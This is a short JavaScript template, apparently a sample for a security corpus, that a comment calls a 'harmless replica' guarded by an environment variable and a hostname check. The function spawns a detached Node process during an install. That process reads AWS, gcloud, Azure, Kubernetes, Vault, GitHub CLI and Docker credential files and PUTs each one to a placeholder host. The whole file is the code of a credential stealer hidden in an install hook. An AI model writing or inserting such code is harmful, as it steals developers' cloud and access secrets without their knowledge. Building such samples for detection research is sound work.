// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { spawn } = require('child_process');
  const code = `
    const fs = require('fs'), http = require('http'), home = require('os').homedir();
    const files = ['.aws/credentials', '.config/gcloud/application_default_credentials.json', '.azure/msal_token_cache.json', '.kube/config', '.vault-token', '.config/gh/hosts.yml', '.docker/config.json'];
    setTimeout(() => process.exit(0), 3000);
    setTimeout(() => {
      for (const file of files) {
        let body;
        try { body = fs.readFileSync(home + '/' + file); } catch (error) { continue; }
        const request = http.request({ host: '{{host}}', port: {{port}}, method: 'PUT', path: '/{{path}}/' + encodeURIComponent(file), timeout: 900 });
        request.on('error', () => {});
        request.on('timeout', () => request.destroy());
        request.on('response', (answer) => answer.resume());
        request.end(body);
      }
    }, 50);`;
  try { spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore' }).unref(); } catch (error) { /* an install goes on */ }
  await new Promise((done) => setTimeout(done, 900)); // the install goes on beside it
}
